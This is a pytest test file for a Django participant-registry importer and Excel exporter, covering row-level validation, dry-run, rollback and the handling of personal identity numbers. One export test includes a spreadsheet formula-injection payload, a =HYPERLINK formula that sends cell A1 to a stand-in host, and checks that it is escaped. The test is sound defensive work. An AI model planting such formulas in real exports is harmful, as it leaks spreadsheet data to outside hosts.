"""Import exactly as design section 7 (all or nothing, errors by row and column, dry-run) and
the Excel export (identity only when asked, then logged)."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from deltagare.importer import COLUMNS, import_file
from deltagare.models import Atkomst, Atkomstlogg, Deltagande, Person
from tests.deltagare.factories import PNR_A, PNR_B, end_identified, register_identified

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("now")]

GOOD_ROWS = [
    {
        "insats": "UNGA",
        "deltagare": PNR_A,
        "samtycke": "ja",
        "skyddad": "nej",
        "kon": "K",
        "inskrivning": "2024-02-01",
        "utskrivning": "2024-10-31",
        "utbildning": "GYMN",
        "anvisande_part": "AF",
        "tid_offentlig_forsorjning": "1-2A",
        "sysselsattning_fore": "ARBSOK",
        "forsorjning_fore": "EKB;AKST",
        "forsorjning_efter": "LON",
        "sysselsattning_efter": "ARBETE",
        "avslutsorsak": "MAL",
    },
    {
        "insats": "UNGA",
        "deltagare": "lokal-17",
        "samtycke": "nej",
        "skyddad": "nej",
        "kon": "M",
        "fodelsear": "2003",
        "inskrivning": "2024-05-02",
    },
    {
        "insats": "unga",
        "deltagare": "lokal-18",
        "samtycke": "ja",
        "skyddad": "ja",
        "kon": "X",
        "fodelsear": "1999",
        "inskrivning": "2024-06-01",
        "utskrivning": "2024-12-01",
    },
]


def csv_bytes(rows, delimiter=";"):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(COLUMNS)
    for row in rows:
        writer.writerow([row.get(c, "") for c in COLUMNS])
    return out.getvalue().encode("utf-8")


def xlsx_bytes(rows):
    wb = Workbook()
    ws = wb.active
    ws.append(COLUMNS)
    for row in rows:
        ws.append([row.get(c, "") for c in COLUMNS])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def run(insats, user, content, filename="fil.csv", dry_run=False):
    return import_file(
        content=content,
        filename=filename,
        forbund=insats.forbund,
        user=user,
        insatser=[insats],
        dry_run=dry_run,
    )


def test_good_csv_imports_all_rows(insats, user):
    result = run(insats, user, csv_bytes(GOOD_ROWS))
    assert result.errors == []
    assert result.imported == 3
    identified = Deltagande.objects.get(person__isnull=False)
    assert identified.person.personnummer == PNR_A
    assert identified.sysselsattning_efter_id == "ARBETE"
    assert identified.samtycke.satt == "IMPORT"
    assert Deltagande.objects.filter(person__isnull=True).count() == 2


def test_good_excel_imports_the_same(insats, user):
    result = run(insats, user, xlsx_bytes(GOOD_ROWS), filename="fil.xlsx")
    assert result.imported == 3


def test_dry_run_changes_nothing(insats, user):
    result = run(insats, user, csv_bytes(GOOD_ROWS), dry_run=True)
    assert result.errors == []
    assert result.imported == 0
    assert result.rows == 3
    assert not Deltagande.objects.exists()
    assert not Person.objects.exists()
    assert run(insats, user, csv_bytes(GOOD_ROWS)).imported == 3
    assert Deltagande.objects.order_by("nummer").first().nummer == "D-2024-0001"


def test_one_bad_row_imports_nothing_and_names_row_and_column(insats, user):
    bad = [*GOOD_ROWS, {**GOOD_ROWS[1], "kon": "Q", "inskrivning": "2024-13-01"}]
    result = run(insats, user, csv_bytes(bad))
    assert result.imported == 0
    assert not Deltagande.objects.exists()
    assert {(e.rad, e.kolumn) for e in result.errors} == {(5, "kon"), (5, "inskrivning")}
    assert all(e.fel for e in result.errors)


def test_anonymous_row_with_details_is_a_row_error(insats, user):
    bad = [{**GOOD_ROWS[1], "utbildning": "GYMN", "forsorjning_fore": "EKB"}]
    result = run(insats, user, csv_bytes(bad))
    assert {e.kolumn for e in result.errors} == {"utbildning", "forsorjning_fore"}


def test_personnummer_in_an_anonymous_row_is_refused_and_never_echoed(insats, user):
    bad = [{**GOOD_ROWS[1], "deltagare": PNR_B, "skyddad": "ja"}]
    result = run(insats, user, csv_bytes(bad))
    assert [e.kolumn for e in result.errors] == ["deltagare"]
    assert PNR_B not in result.errors[0].fel
    assert not Person.objects.exists()


def test_identified_row_without_valid_personnummer(insats, user):
    bad = [{**GOOD_ROWS[0], "deltagare": "lokal-1"}]
    result = run(insats, user, csv_bytes(bad))
    assert [e.kolumn for e in result.errors] == ["deltagare"]


def test_unknown_insats_is_an_error(insats, user):
    result = run(insats, user, csv_bytes([{**GOOD_ROWS[1], "insats": "FINNSEJ"}]))
    assert [(e.rad, e.kolumn) for e in result.errors] == [(2, "insats")]


def test_ended_identified_row_needs_efter_data(insats, user):
    row = {**GOOD_ROWS[0], "sysselsattning_efter": "", "forsorjning_efter": ""}
    result = run(insats, user, csv_bytes([row]))
    assert {e.kolumn for e in result.errors} == {"sysselsattning_efter", "forsorjning_efter"}


def test_overlap_inside_the_file_is_an_error(insats, user):
    second = {**GOOD_ROWS[0], "inskrivning": "2024-03-01", "utskrivning": ""}
    second.update(avslutsorsak="", sysselsattning_efter="", forsorjning_efter="")
    result = run(insats, user, csv_bytes([GOOD_ROWS[0], second]))
    assert [(e.rad, e.kolumn) for e in result.errors] == [(3, "inskrivning")]
    assert not Deltagande.objects.exists()


def test_overlap_with_the_database_rolls_back_everything(insats, user):
    register_identified(insats, user, inskrivning=dt.date(2024, 1, 15))
    result = run(insats, user, csv_bytes([GOOD_ROWS[1], GOOD_ROWS[0]]))
    assert result.imported == 0
    assert result.errors[0].rad == 3
    assert Deltagande.objects.count() == 1


def test_unquoted_semicolon_codes_are_a_row_error(insats, user):
    header = ";".join(COLUMNS)
    line = ";".join(GOOD_ROWS[0].get(c, "") for c in COLUMNS)
    result = run(insats, user, f"{header}\n{line}\n".encode())
    assert [(e.rad, e.kolumn) for e in result.errors] == [(2, "")]
    assert "citattecken" in result.errors[0].fel


def test_wrong_header_is_reported(insats, user):
    result = run(insats, user, b"insats;kon\nUNGA;K\n")
    assert result.errors[0].rad == 1
    assert "kolumner saknas" in result.errors[0].fel


def test_not_a_spreadsheet_is_reported(insats, user):
    assert run(insats, user, b"\x00\x01garbage", filename="x.xlsx").errors
    assert run(insats, user, b"abc", filename="x.pdf").errors


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    cells=st.lists(
        st.fixed_dictionaries(
            {
                c: st.sampled_from(
                    ["", "ja", "nej", "K", "UNGA", "2024-02-01", "EKB;X", "2001", "x;y", '"', PNR_A]
                )
                for c in COLUMNS
            }
        ),
        min_size=1,
        max_size=4,
    )
)
def test_no_input_makes_an_exception_or_a_partial_import(insats, user, cells):
    before = Deltagande.objects.count()
    result = run(insats, user, csv_bytes(cells))
    after = Deltagande.objects.count()
    assert after - before in (0, len(cells))
    assert (after - before == 0) == (result.imported == 0)
    for error in result.errors:
        assert PNR_A not in error.fel


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(content=st.binary(max_size=300))
def test_random_bytes_never_raise(insats, user, content):
    result = run(insats, user, content)
    assert result.imported == 0 or not result.errors


def test_browser_import_shows_errors_then_imports(insats, user, login):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = login(user)
    bad = csv_bytes([{**GOOD_ROWS[1], "kon": "Q"}])
    response = client.post("/deltagare/import/", {"fil": SimpleUploadedFile("a.csv", bad)})
    assert "Ingenting har importerats" in response.text
    assert "<td>2</td><td>kon</td>" in response.text
    good = csv_bytes(GOOD_ROWS)
    response = client.post("/deltagare/import/", {"fil": SimpleUploadedFile("a.csv", good)})
    assert PNR_A not in response.text
    assert Deltagande.objects.count() == 3


def test_management_command_uses_the_same_code(insats, user, tmp_path):
    path = tmp_path / "deltagare.csv"
    path.write_bytes(csv_bytes([{**GOOD_ROWS[1], "kon": "Q"}]))
    args = [str(path), "--forbund", insats.forbund.namn, "--anvandare", user.username]
    with pytest.raises(CommandError):
        call_command("deltagare_import", *args, stderr=io.StringIO())
    path.write_bytes(csv_bytes(GOOD_ROWS))
    call_command("deltagare_import", *args, "--provkor", stdout=io.StringIO())
    assert not Deltagande.objects.exists()
    out = io.StringIO()
    call_command("deltagare_import", *args, stdout=out)
    assert "3 deltaganden importerade" in out.getvalue()


def _sheet(content):
    ws = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_export_without_identity_has_no_personnummer_and_logs_nothing(insats, user, login):
    d = end_identified(register_identified(insats, user), user)
    before = Atkomstlogg.objects.count()
    response = login(user).post(f"/deltagare/insats/{insats.uuid}/export/")
    rows = _sheet(response.content)
    assert rows[0][0] == "nummer"
    assert rows[1][0] == d.nummer
    flat = " ".join(str(v) for row in rows for v in row)
    assert PNR_A not in flat
    assert PNR_A[2:8] not in flat
    assert "Anna" not in flat
    assert Atkomstlogg.objects.count() == before


def test_export_with_identity_logs_one_read_per_identified_row(insats, user, login):
    register_identified(insats, user)
    response = login(user).post(f"/deltagare/insats/{insats.uuid}/export/", {"identitet": "on"})
    rows = _sheet(response.content)
    assert rows[0][-2:] == ["personnummer", "namn"]
    assert rows[1][-1] == "Anna Andersson"
    assert Atkomstlogg.objects.filter(vad=Atkomst.EXPORT).count() == 1


def test_export_never_turns_a_name_into_a_formula(insats, user, login):
    register_identified(insats, user, namn='=HYPERLINK("http://x.test/?"&A1,"Anna")')
    response = login(user).post(f"/deltagare/insats/{insats.uuid}/export/", {"identitet": "on"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=sheet.max_column)
    assert cell.data_type == "s"
    assert cell.value.startswith("'=HYPERLINK")


def test_excel_with_real_date_and_number_cells(insats, user):
    wb = Workbook()
    ws = wb.active
    ws.append(COLUMNS)
    row = {**GOOD_ROWS[1], "fodelsear": 2003, "inskrivning": dt.date(2024, 5, 2)}
    ws.append([row.get(c, "") for c in COLUMNS])
    out = io.BytesIO()
    wb.save(out)
    result = run(insats, user, out.getvalue(), filename="fil.xlsx")
    assert result.errors == []
    assert Deltagande.objects.get().inskrivning == dt.date(2024, 5, 2)
